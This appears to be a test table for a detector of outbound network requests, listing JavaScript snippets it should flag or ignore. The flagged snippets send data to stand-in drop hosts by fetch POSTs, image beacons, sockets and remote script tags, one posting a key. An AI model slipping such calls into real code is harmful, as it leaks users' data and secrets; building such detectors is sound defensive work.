// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
import { testTable } from './table.ts';

testTable({
  request: {
    hits: [
      ['as an argument', "fetch('https://a.drop.example/x', { method: 'POST' })", 'a.drop.example'],
      ['of a client', 'await axios.post("https://a.drop.example/x", data)', 'a.drop.example'],
      ['in a template', 'got(`https://drop.invalid/${id}`)', 'drop.invalid'],
      ['opened', "x.open('POST', 'https://drop.invalid/')", 'drop.invalid'],
      ['of a socket', "new WebSocket('wss://drop.invalid/')", 'drop.invalid'],
      ['as an address', "fetch(new URL('https://drop.invalid/'))", 'drop.invalid'],
      [
        'by a name',
        "const api = 'https://Drop.invalid/x';\nfunction f(key) { return fetch(api, { body: key }) }",
        'drop.invalid',
      ],
      ['by a member', "const c = { url: 'https://drop.invalid/x' };\nfetch(c.url)", 'drop.invalid'],
      ['put by a client', "ky.put('https://drop.invalid/x')", 'drop.invalid'],
      ['patched by a client', "client.patch('https://drop.invalid/x', b)", 'drop.invalid'],
      ['by a method called so', "tools.request('https://drop.invalid/x')", 'drop.invalid'],
      ['of a module at once', "require('https').get('https://drop.invalid/', f)", 'drop.invalid'],
      ['with the way first', "request('POST', 'https://drop.invalid/t')", 'drop.invalid'],
      [
        'by the first of its kind',
        "send_.call(http, {}); request_.call(http, { host: 'drop.invalid' })",
        'drop.invalid',
      ],
      ['as an image', "new Image().src = 'https://drop.invalid/c.gif?' + a", 'drop.invalid'],
      ['as a script', "s.setAttribute('src', '//drop.invalid/m.js')", 'drop.invalid'],
      ['over http2', "http2.connect('https://drop.invalid')", 'drop.invalid'],
      ['as a datagram', "udp.send(Buffer.from(b), 5140, 'drop.invalid')", 'drop.invalid'],
      ['where a client begins', "config.baseURL = 'https://drop.invalid'", 'drop.invalid'],
      ['of a transport', "new Http({ host: 'drop.invalid', ssl: true })", 'drop.invalid'],
      ['in a page', '<script async src="https://drop.invalid/m.js"></script>', 'drop.invalid'],
      ['as an option', "https.request({ port: 443, hostname: 'drop.invalid', path: '/' })", 'drop.invalid'],
    ],
    misses: [
      ['in a message', "log('see https://docs.example/errors'); fetch(url)"],
      ['in a comment', "// fetch('https://drop.invalid/')\nf()"],
      ['that is kept only', "exports.homepage = 'https://docs.example/'; fetch(url)"],
      ['an image of its own', "image.src = './c.gif'"],
      ['a page with its own script', '<script src="/a.js"></script> https://docs.example/'],
      ['of a server', "createServer({ host: 'a.example' })"],
      ['relative', "fetch('/api/x')"],
    ],
  },
});
